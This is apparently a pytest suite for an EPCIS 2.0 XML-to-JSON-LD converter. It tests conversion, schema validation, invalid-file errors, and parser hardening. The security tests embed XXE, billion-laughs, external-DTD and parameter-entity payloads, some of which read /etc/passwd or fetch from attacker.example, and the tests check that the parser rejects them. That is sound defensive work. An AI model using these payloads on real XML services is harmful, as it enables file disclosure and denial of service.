"""EPCIS 2.0 XML -> JSON-LD dict conversion (loaders.epcis.xml) against the OpenEPCIS test resources.

* every XML document / bare event of ``XML/Capture/{Documents,Events}`` converts;
* each converted document whose twin exists in ``JSON/Capture/Documents`` has the same events (type, eventID,
  eventTime as an instant, action, bizStep/disposition, readPoint/bizLocation, EPC lists as sets, quantity lists,
  source/destination lists, the set of extension names expanded to namespace IRIs);
* each converted document, with its CBV values written as bare words (``normalize_document_cbv``, the JSON-LD
  binding's form), validates against the EPCIS 2.0 JSON schema, except the two listed in ``KNOWN_SCHEMA_FAILURES``
  (faults of the test data, checked to fail exactly as explained);
* every ``XML/Capture/Invalid`` document is rejected (one only with ``strict_order=True``, see
  ``test_invalid_document``);
* DOCTYPE/entity attacks (XXE, billion laughs) are rejected.
"""
from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from jsonschema import Draft7Validator, FormatChecker

from loaders.epcis.eventhash import STANDARD_PREFIXES, context_prefixes
from loaders.epcis.eventhash_dl import canonical_identifier
from loaders.epcis.xml import (
    EpcisXmlError,
    normalize_cbv,
    normalize_document_cbv,
    parse_epcis_xml,
)
from tests.conformance import conformance_path

OPENEPCIS = conformance_path("epcis-openepcis")
XML_DOCUMENTS = sorted((OPENEPCIS / "XML" / "Capture" / "Documents").glob("*.xml"))
XML_EVENTS = sorted((OPENEPCIS / "XML" / "Capture" / "Events").glob("*.xml"))
XML_INVALID = sorted((OPENEPCIS / "XML" / "Capture" / "Invalid").glob("*.xml"))
JSON_DOCUMENTS = OPENEPCIS / "JSON" / "Capture" / "Documents"
SCHEMA = json.loads(conformance_path("epcis-schema", "epcis-json-schema.json").read_text(encoding="utf-8"))


def _ids(paths):
    return [p.name for p in paths]


def _convert(path: Path, **kw) -> dict:
    return parse_epcis_xml(path.read_bytes(), **kw)


# -------------------------------------------------------------------------------------- all files parse

@pytest.mark.parametrize("path", XML_DOCUMENTS + XML_EVENTS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_converts(path: Path):
    doc = _convert(path)
    assert doc["type"] == "EPCISDocument"
    assert doc["@context"][0].startswith("https://ref.gs1.org/standards/epcis/")
    events = doc["epcisBody"]["eventList"]
    assert events
    for event in events:
        assert event["type"] in ("ObjectEvent", "AggregationEvent", "TransactionEvent", "TransformationEvent",
                                 "AssociationEvent")
        assert "eventTime" in event and "eventTimeZoneOffset" in event
    json.dumps(doc)  # plain JSON data only


# ------------------------------------------------------------------------------- XML twin == JSON twin

_INSTANT = re.compile(r"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)(\.\d+)?(Z|[+-]\d\d:\d\d)")


def _instant(text: str) -> tuple[datetime, Decimal]:
    """(UTC second, fraction) so that nanosecond precision survives."""
    m = _INSTANT.fullmatch(text)
    assert m, text
    moment = datetime.fromisoformat(m.group(1)).replace(tzinfo=UTC)
    if m.group(3) != "Z":
        sign = 1 if m.group(3)[0] == "+" else -1
        moment -= sign * timedelta(hours=int(m.group(3)[1:3]), minutes=int(m.group(3)[4:]))
    return moment, Decimal(m.group(2) or "0")


def _ident(value):
    """Identifiers compared in canonical form: the twins write some EPCs as URNs on one side and as
    (non-canonical) Digital Links on the other."""
    return canonical_identifier(value) or value


_COMMENT_KEYS = {"rdfs:comment", "comment"}


def _extension_names(obj, prefixes, out: set) -> set:
    """(namespace, local name) of every prefixed key at any depth; a trailing '#' of the namespace is dropped
    (XML writes urn:epcglobal:cbv:mda, the JSON-LD context urn:epcglobal:cbv:mda#)."""
    if isinstance(obj, list):
        for item in obj:
            _extension_names(item, prefixes, out)
    elif isinstance(obj, dict):
        if "@context" in obj:
            prefixes = context_prefixes(obj["@context"], prefixes)
        for key, value in obj.items():
            if key.startswith("@") or key == "#text" or key in _COMMENT_KEYS:
                continue
            prefix, sep, local = key.partition(":")
            if sep:
                assert prefix in prefixes, f"undeclared prefix in {key}"
                out.add((prefixes[prefix].rstrip("#"), local))
            _extension_names(value, prefixes, out)
    return out


def _quantities(items):
    return sorted((_ident(q["epcClass"]), None if q.get("quantity") is None else Decimal(str(q["quantity"])),
                   q.get("uom")) for q in items or [])


def _parties(items, member):
    return sorted((normalize_cbv(x.get("type"), "sourceDestType"), _ident(x[member])) for x in items or [])


def _comparable(event: dict, prefixes: dict) -> dict:
    return {
        "type": event["type"],
        "eventID": event.get("eventID"),
        "eventTime": _instant(event["eventTime"]),
        "action": event.get("action"),
        "bizStep": normalize_cbv(event.get("bizStep"), "bizStep"),
        "disposition": normalize_cbv(event.get("disposition"), "disposition"),
        **{f: _ident((event.get(f) or {}).get("id")) for f in ("readPoint", "bizLocation")},
        **{f: {_ident(e) for e in event.get(f) or []}
           for f in ("epcList", "childEPCs", "inputEPCList", "outputEPCList")},
        **{f: _quantities(event.get(f))
           for f in ("quantityList", "childQuantityList", "inputQuantityList", "outputQuantityList")},
        "sourceList": _parties(event.get("sourceList"), "source"),
        "destinationList": _parties(event.get("destinationList"), "destination"),
        "extensions": _extension_names(event, prefixes, set()),
    }


# the same document under a differently spelled name
TWIN_ALIASES = {"TransformationEvent_with_errorDeclaration.xml": "TransformationEvent_with_error_declaration.json"}


def _twin(xml_path: Path) -> Path:
    return JSON_DOCUMENTS / TWIN_ALIASES.get(xml_path.name, f"{xml_path.stem}.json")


TWINS = [p for p in XML_DOCUMENTS if _twin(p).exists()]


def test_twins_found():
    assert len(TWINS) >= 36  # every XML document but Namespace_document.xml has a JSON twin


@pytest.mark.parametrize("xml_path", TWINS, ids=_ids(TWINS))
def test_same_events_as_json_twin(xml_path: Path):
    xml_doc = _convert(xml_path)
    json_doc = json.loads(_twin(xml_path).read_text(encoding="utf-8"))
    xml_prefixes = context_prefixes(xml_doc["@context"], STANDARD_PREFIXES)
    json_prefixes = context_prefixes(json_doc["@context"], STANDARD_PREFIXES)
    xml_events = xml_doc["epcisBody"]["eventList"]
    json_events = json_doc["epcisBody"]["eventList"]
    assert len(xml_events) == len(json_events)
    for i, (x, j) in enumerate(zip(xml_events, json_events)):
        assert _comparable(x, xml_prefixes) == _comparable(j, json_prefixes), f"event {i}"


# ------------------------------------------------------------------------------------------ JSON schema

_URI = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*:\S*$")                          # RFC 3986 scheme ":" ...
_DATE_TIME = re.compile(r"^\d{4}-\d\d-\d\d[Tt]\d\d:\d\d:\d\d(\.\d+)?([Zz]|[+-]\d\d:\d\d)$")  # RFC 3339
FORMATS = FormatChecker()
FORMATS.checks("uri")(lambda v: not isinstance(v, str) or bool(_URI.match(v)))
FORMATS.checks("date-time")(lambda v: not isinstance(v, str) or bool(_DATE_TIME.match(v)))
VALIDATOR = Draft7Validator(SCHEMA, format_checker=FORMATS)

# file -> (reason, the exact set of (error path, failing keyword) the schema reports)
KNOWN_SCHEMA_FAILURES = {
    "SensorData_with_combined_events.xml": (
        "test data: event 8 has two sensorReports without 'type', which the schema requires "
        "(its JSON twin fails the same way)",
        {(("epcisBody", "eventList", 8, "sensorElementList", 0, "sensorReport", 0), "required"),
         (("epcisBody", "eventList", 8, "sensorElementList", 0, "sensorReport", 1), "required")}),
    "epcisDocWithAllGS1Keys.xml": (
        "test data: epcList lists urn:epc:id:sscc:4012345.0000000333 twice, the schema requires unique items "
        "(the JSON twin writes the second one as a Digital Link)",
        {(("epcisBody", "eventList", 0, "epcList"), "uniqueItems")}),
}


@pytest.mark.parametrize("path", XML_DOCUMENTS + XML_EVENTS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_converted_document_is_schema_valid(path: Path):
    doc = normalize_document_cbv(_convert(path))
    errors = {(tuple(e.absolute_path), e.validator) for e in VALIDATOR.iter_errors(doc)}
    if path.name in KNOWN_SCHEMA_FAILURES:
        reason, expected = KNOWN_SCHEMA_FAILURES[path.name]
        assert errors == expected, reason
    else:
        assert not errors, sorted(errors)


def test_cbv_urns_are_kept_until_normalised():
    doc = _convert(OPENEPCIS / "XML" / "Capture" / "Documents" / "ObjectEvent.xml")
    raw = doc["epcisBody"]["eventList"][0]["bizStep"]
    assert raw.startswith("urn:epcglobal:cbv:bizstep:")
    # the JSON-LD binding forbids CBV URNs: the raw conversion is not schema-valid, the normalised one is
    assert any(e.validator for e in VALIDATOR.iter_errors(doc))
    assert not list(VALIDATOR.iter_errors(normalize_document_cbv(doc)))
    assert doc["epcisBody"]["eventList"][0]["bizStep"] == raw  # normalize_document_cbv copies


# --------------------------------------------------------------------------------------- invalid files

INVALID_EXPECTATIONS = {
    "ObjectEvent_bare_event_without_action.xml": ("epcisBody/eventList/ObjectEvent[0]/action", "required"),
    "ObjectEvent_with_invalid_action.xml": ("epcisBody/eventList/ObjectEvent[0]/action", "'CREATE'"),
    "ObjectEvent_with_invalid_eventTime_format.xml": ("epcisBody/eventList/ObjectEvent[0]/eventTime", "dateTime"),
    "ObjectEvent_with_near_miss_action.xml": ("epcisBody/eventList/ObjectEvent[0]/action", "'OBSERV'"),
    "ObjectEvent_with_unknown_element.xml": ("epcisBody/eventList/ObjectEvent[0]/madeUpField",
                                             "not an element of ObjectEvent"),
    "ObjectEvent_without_eventTime.xml": ("epcisBody/eventList/ObjectEvent[0]/eventTime", "required"),
    # rejected only with strict_order=True: see test_invalid_document
    "ObjectEvent_with_wrong_element_order.xml": ("epcisBody/eventList/ObjectEvent[0]/action", "element order"),
}
ONLY_STRICT = {"ObjectEvent_with_wrong_element_order.xml"}


def test_every_invalid_file_has_an_expectation():
    assert set(_ids(XML_INVALID)) == set(INVALID_EXPECTATIONS)


@pytest.mark.parametrize("path", XML_INVALID, ids=_ids(XML_INVALID))
def test_invalid_document(path: Path):
    expected_path, reason_part = INVALID_EXPECTATIONS[path.name]
    if path.name in ONLY_STRICT:
        # JSON has no element order, so no JSON schema can see it, and element order is not enforced by
        # default because valid test data breaks it (OpenEPCIS JumbledFieldsOrder.xml, and the event-hash
        # vector differentRepresentationsOfAggregationEvent.xml).  The default conversion accepts it...
        doc = normalize_document_cbv(_convert(path))
        assert not list(VALIDATOR.iter_errors(doc))
        # ...and strict mode rejects it.
        with pytest.raises(EpcisXmlError) as exc:
            _convert(path, strict_order=True)
    else:
        with pytest.raises(EpcisXmlError) as exc:
            _convert(path)
    assert exc.value.path == expected_path
    assert reason_part in exc.value.reason
    assert isinstance(exc.value, ValueError)


def test_strict_order_accepts_the_ordered_documents():
    for path in XML_DOCUMENTS + XML_EVENTS:
        if path.name != "JumbledFieldsOrder.xml":
            _convert(path, strict_order=True)
    with pytest.raises(EpcisXmlError, match="element order"):
        _convert(OPENEPCIS / "XML" / "Capture" / "Documents" / "JumbledFieldsOrder.xml", strict_order=True)


# --------------------------------------------------------------------------------------------- security

DOC_HEAD = '<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" ' \
           'creationDate="2024-01-01T00:00:00Z">'
DOC_TAIL = "</epcis:EPCISDocument>"


def _document(event_xml: str, head: str = DOC_HEAD) -> bytes:
    return (head + "<EPCISBody><EventList>" + event_xml + "</EventList></EPCISBody>" + DOC_TAIL).encode()


EVENT = ("<ObjectEvent><eventTime>2024-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
         "<epcList><epc>urn:epc:id:sgtin:4012345.011111.1</epc></epcList><action>OBSERVE</action>{}</ObjectEvent>")

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" creationDate="2024-01-01T00:00:00Z">
<EPCISBody><EventList><ObjectEvent><eventTime>2024-01-01T00:00:00Z</eventTime>
<eventTimeZoneOffset>+00:00</eventTimeZoneOffset><epcList><epc>&xxe;</epc></epcList><action>ADD</action>
</ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" creationDate="2024-01-01T00:00:00Z">
<EPCISBody><EventList><ObjectEvent><eventTime>2024-01-01T00:00:00Z</eventTime>
<eventTimeZoneOffset>+00:00</eventTimeZoneOffset><epcList/><action>ADD</action>
<ex:bomb xmlns:ex="http://ex/">&lol9;</ex:bomb></ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE epcis:EPCISDocument SYSTEM "http://attacker.example/epcis.dtd">
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
 creationDate="2024-01-01T00:00:00Z"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
 creationDate="2024-01-01T00:00:00Z"/>"""


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity"])
def test_doctype_attacks_are_rejected(payload: bytes):
    with pytest.raises(EpcisXmlError) as exc:
        parse_epcis_xml(payload)
    assert exc.value.path == ""
    assert "DOCTYPE" in exc.value.reason and "forbidden" in exc.value.reason


def test_size_cap():
    data = _document(EVENT.format(""))
    parse_epcis_xml(data, max_bytes=len(data))
    with pytest.raises(EpcisXmlError, match="more than the limit"):
        parse_epcis_xml(data, max_bytes=len(data) - 1)


def test_nesting_cap():
    deep = "<ex:a>" * 200 + "x" + "</ex:a>" * 200
    data = _document(EVENT.format(deep), DOC_HEAD.replace(">", ' xmlns:ex="http://ex/">', 1))
    with pytest.raises(EpcisXmlError, match="nesting deeper"):
        parse_epcis_xml(data)


@pytest.mark.parametrize("data, path, reason", [
    (b"<epcis:EPCISDocument", "", "not well-formed"),
    (b"<html/>", "", "is not an EPCISDocument"),
    (_document(EVENT.format("<quantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.011111.L1"
                            "</epcClass><quantity>ten</quantity></quantityElement></quantityList>")),
     "epcisBody/eventList/ObjectEvent[0]/quantityList/quantityElement[0]/quantity", "not a number"),
    (_document(EVENT.format('<sensorElementList><sensorElement><sensorReport type="gs1:Temperature" '
                            'value="warm"/></sensorElement></sensorElementList>')),
     "epcisBody/eventList/ObjectEvent[0]/sensorElementList/sensorElement[0]/sensorReport[0]/@value",
     "not a number"),
    (_document(EVENT.format("") + "<FooEvent/>"), "epcisBody/eventList/FooEvent[1]", "not an EPCIS event type"),
    (_document(EVENT.format("<bizStep>a</bizStep><bizStep>b</bizStep>")),
     "epcisBody/eventList/ObjectEvent[0]/bizStep", "more than once"),
])
def test_errors_name_the_place(data, path, reason):
    with pytest.raises(EpcisXmlError) as exc:
        parse_epcis_xml(data)
    assert exc.value.path == path
    assert reason in exc.value.reason
    assert str(exc.value).startswith(path)


def test_bytes_only():
    with pytest.raises(TypeError):
        parse_epcis_xml(_document(EVENT.format("")).decode())


# ------------------------------------------------------------------------------------- mapping details

def test_extension_mapping():
    head = DOC_HEAD.replace(">", ' xmlns:https="http://one/" xmlns:a="http://one/">', 1)
    ext = ('<a:obj a:attr="v"><a:rep>1</a:rep><a:rep>2</a:rep><plain>p</plain></a:obj>'
           '<a:text a:attr="v">hello</a:text><d xmlns="http://default/">x</d>'
           '<q:x xmlns:q="http://q1/">1</q:x><q:y xmlns:q="http://q2/">2</q:y>')
    doc = parse_epcis_xml(_document(EVENT.format(ext), head))
    ctx = doc["@context"][1]
    ev = doc["epcisBody"]["eventList"][0]
    assert ctx["a"] == "http://one/" and "https" not in ctx  # a URI-scheme-like prefix is never used
    assert ev["a:obj"] == {"a:attr": "v", "a:rep": ["1", "2"], "plain": "p"}
    assert ev["a:text"] == {"a:attr": "v", "#text": "hello"}
    default_prefix = next(p for p, ns in ctx.items() if ns == "http://default/")
    assert ev[f"{default_prefix}:d"] == "x"
    q1 = next(p for p, ns in ctx.items() if ns == "http://q1/")
    q2 = next(p for p, ns in ctx.items() if ns == "http://q2/")
    assert q1 != q2 and ev[f"{q1}:x"] == "1" and ev[f"{q2}:y"] == "2"  # one prefix, two namespaces


def test_sensor_values_are_typed():
    sensor = ('<sensorElementList><sensorElement><sensorMetadata time="2024-01-01T00:00:00Z" ex:m="1"/>'
              '<sensorReport type="gs1:Temperature" value="26.0" minValue="-1.5" booleanValue="true" '
              'hexBinaryValue="0F" uom="CEL" ex:r="x"/><ex:extra>e</ex:extra></sensorElement></sensorElementList>')
    doc = parse_epcis_xml(_document(EVENT.format(sensor), DOC_HEAD.replace(">", ' xmlns:ex="http://ex/">', 1)))
    element = doc["epcisBody"]["eventList"][0]["sensorElementList"][0]
    assert element["sensorMetadata"] == {"time": "2024-01-01T00:00:00Z", "ex:m": "1"}
    assert element["sensorReport"] == [{"type": "gs1:Temperature", "value": 26, "minValue": -1.5,
                                        "booleanValue": True, "hexBinaryValue": "0F", "uom": "CEL", "ex:r": "x"}]
    assert element["ex:extra"] == "e"


def test_quantity_event_becomes_object_event():
    event = ("<QuantityEvent><eventTime>2024-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00"
             "</eventTimeZoneOffset><epcClass>urn:epc:class:lgtin:4012345.011111.L1</epcClass><quantity>2.50"
             "</quantity><bizStep>urn:epcglobal:cbv:bizstep:shipping</bizStep></QuantityEvent>")
    ev = parse_epcis_xml(_document(event))["epcisBody"]["eventList"][0]
    assert ev["type"] == "ObjectEvent" and ev["action"] == "OBSERVE"
    assert ev["quantityList"] == [{"epcClass": "urn:epc:class:lgtin:4012345.011111.L1", "quantity": 2.5}]
    assert "epcClass" not in ev and "quantity" not in ev


def test_all_standard_fields():
    event = ("<TransformationEvent><eventTime>2024-01-01T00:00:00Z</eventTime>"
             "<eventTimeZoneOffset>+01:00</eventTimeZoneOffset><eventID>urn:uuid:1</eventID>"
             "<errorDeclaration><declarationTime>2024-01-02T00:00:00Z</declarationTime>"
             "<reason>urn:epcglobal:cbv:er:incorrect_data</reason><correctiveEventIDs>"
             "<correctiveEventID>urn:uuid:2</correctiveEventID></correctiveEventIDs></errorDeclaration>"
             "<certificationInfo>https://cert.example/1</certificationInfo>"
             "<inputEPCList><epc>urn:epc:id:sgtin:4012345.011111.1</epc></inputEPCList>"
             "<inputQuantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.011111.L1</epcClass>"
             "<quantity>10</quantity><uom>KGM</uom></quantityElement></inputQuantityList>"
             "<outputEPCList><epc>urn:epc:id:sgtin:4012345.011111.2</epc></outputEPCList>"
             "<transformationID>urn:epc:id:gdti:4012345.00001.1</transformationID>"
             "<bizStep>urn:epcglobal:cbv:bizstep:commissioning</bizStep>"
             "<disposition>urn:epcglobal:cbv:disp:active</disposition>"
             "<persistentDisposition><set>urn:epcglobal:cbv:disp:completeness_verified</set>"
             "<unset>urn:epcglobal:cbv:disp:completeness_inferred</unset></persistentDisposition>"
             "<readPoint><id>urn:epc:id:sgln:4012345.00001.0</id></readPoint>"
             "<bizLocation><id>urn:epc:id:sgln:4012345.00002.0</id></bizLocation>"
             "<bizTransactionList><bizTransaction type=\"urn:epcglobal:cbv:btt:po\">urn:epcglobal:cbv:bt:"
             "4012345000009:PO1</bizTransaction></bizTransactionList>"
             "<sourceList><source type=\"urn:epcglobal:cbv:sdt:owning_party\">urn:epc:id:pgln:4012345.00000"
             "</source></sourceList><destinationList><destination type=\"urn:epcglobal:cbv:sdt:location\">"
             "urn:epc:id:sgln:4012345.00003.0</destination></destinationList>"
             "<ilmd><cbvmda:lotNumber xmlns:cbvmda=\"urn:epcglobal:cbv:mda\">L1</cbvmda:lotNumber></ilmd>"
             "</TransformationEvent>")
    doc = parse_epcis_xml(_document(event))
    ev = doc["epcisBody"]["eventList"][0]
    assert ev["errorDeclaration"] == {"declarationTime": "2024-01-02T00:00:00Z",
                                      "reason": "urn:epcglobal:cbv:er:incorrect_data",
                                      "correctiveEventIDs": ["urn:uuid:2"]}
    assert ev["inputQuantityList"] == [{"epcClass": "urn:epc:class:lgtin:4012345.011111.L1", "quantity": 10,
                                        "uom": "KGM"}]
    assert ev["persistentDisposition"] == {"set": ["urn:epcglobal:cbv:disp:completeness_verified"],
                                           "unset": ["urn:epcglobal:cbv:disp:completeness_inferred"]}
    assert ev["bizTransactionList"] == [{"type": "urn:epcglobal:cbv:btt:po",
                                         "bizTransaction": "urn:epcglobal:cbv:bt:4012345000009:PO1"}]
    assert ev["sourceList"] == [{"type": "urn:epcglobal:cbv:sdt:owning_party",
                                 "source": "urn:epc:id:pgln:4012345.00000"}]
    assert ev["ilmd"] == {"cbvmda:lotNumber": "L1"}
    assert not list(VALIDATOR.iter_errors(normalize_document_cbv(doc)))


def test_query_document_header_and_epcis_1x_wrappers():
    xml = b"""<epcisq:EPCISQueryDocument xmlns:epcisq="urn:epcglobal:epcis-query:xsd:2"
        xmlns:sbdh="http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader"
        schemaVersion="2.0" creationDate="2024-01-01T00:00:00Z">
      <EPCISHeader>
        <sbdh:StandardBusinessDocumentHeader>
          <sbdh:Sender><sbdh:Identifier>urn:epc:id:sgln:4012345.00001.0</sbdh:Identifier></sbdh:Sender>
          <sbdh:DocumentIdentification><sbdh:InstanceIdentifier>42</sbdh:InstanceIdentifier>
          </sbdh:DocumentIdentification>
        </sbdh:StandardBusinessDocumentHeader>
        <extension><EPCISMasterData><VocabularyList>
          <Vocabulary type="urn:epcglobal:epcis:vtype:BusinessLocation"><VocabularyElementList>
            <VocabularyElement id="urn:epc:id:sgln:4012345.00001.0">
              <attribute id="urn:epcglobal:cbv:mda#name">Plant 1</attribute>
              <children><id>urn:epc:id:sgln:4012345.00001.1</id></children>
            </VocabularyElement>
          </VocabularyElementList></Vocabulary>
        </VocabularyList></EPCISMasterData></extension>
      </EPCISHeader>
      <EPCISBody><epcisq:QueryResults><queryName>SimpleEventQuery</queryName><resultsBody><EventList>
        <ObjectEvent><eventTime>2024-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
          <epcList/><action>OBSERVE</action>
          <extension><quantityList><quantityElement><epcClass>urn:epc:idpat:sgtin:4012345.011111.*</epcClass>
          </quantityElement></quantityList></extension></ObjectEvent>
        <extension><TransformationEvent><eventTime>2024-01-01T00:00:00Z</eventTime>
          <eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
          <inputEPCList><epc>urn:epc:id:sgtin:4012345.011111.8</epc></inputEPCList>
          <outputEPCList><epc>urn:epc:id:sgtin:4012345.011111.9</epc></outputEPCList></TransformationEvent></extension>
      </EventList></resultsBody></epcisq:QueryResults></EPCISBody>
    </epcisq:EPCISQueryDocument>"""
    doc = parse_epcis_xml(xml)
    assert doc["type"] == "EPCISDocument"
    assert doc["sender"] == "urn:epc:id:sgln:4012345.00001.0" and doc["instanceIdentifier"] == "42"
    assert doc["epcisHeader"]["epcisMasterData"]["vocabularyList"] == [{
        "type": "urn:epcglobal:epcis:vtype:BusinessLocation",
        "vocabularyElementList": [{"id": "urn:epc:id:sgln:4012345.00001.0",
                                   "attributes": [{"id": "urn:epcglobal:cbv:mda#name", "attribute": "Plant 1"}],
                                   "children": ["urn:epc:id:sgln:4012345.00001.1"]}]}]
    first, second = doc["epcisBody"]["eventList"]
    assert first["epcList"] == [] and first["quantityList"] == [{"epcClass": "urn:epc:idpat:sgtin:4012345.011111.*"}]
    assert second["type"] == "TransformationEvent"
    assert not list(VALIDATOR.iter_errors(normalize_document_cbv(doc)))


@pytest.mark.parametrize("value, kind, expected", [
    ("urn:epcglobal:cbv:bizstep:shipping", "bizStep", "shipping"),
    ("https://ref.gs1.org/cbv/BizStep-shipping", "bizStep", "shipping"),
    ("cbv:BizStep-shipping", "bizStep", "shipping"),
    ("shipping", "bizStep", "shipping"),
    ("http://epcis.example.com/user/vocab/bizstep/exampling", "bizStep",
     "http://epcis.example.com/user/vocab/bizstep/exampling"),
    ("urn:epcglobal:cbv:disp:in_transit", "disposition", "in_transit"),
    ("https://ref.gs1.org/cbv/Disp-in_transit", "disp", "in_transit"),
    ("urn:epcglobal:cbv:btt:po", "btt", "po"),
    ("https://ref.gs1.org/cbv/SDT-owning_party", "sourceDestType", "owning_party"),
    ("urn:epcglobal:cbv:er:incorrect_data", "errorReason", "incorrect_data"),
    ("cbv:Comp-latitude", "component", "latitude"),
    ("urn:epcglobal:cbv:bizstep:shipping", "disposition", "urn:epcglobal:cbv:bizstep:shipping"),
    (None, "bizStep", None),
])
def test_normalize_cbv(value, kind, expected):
    assert normalize_cbv(value, kind) == expected


def test_normalize_cbv_rejects_unknown_kind():
    with pytest.raises(ValueError):
        normalize_cbv("x", "colour")
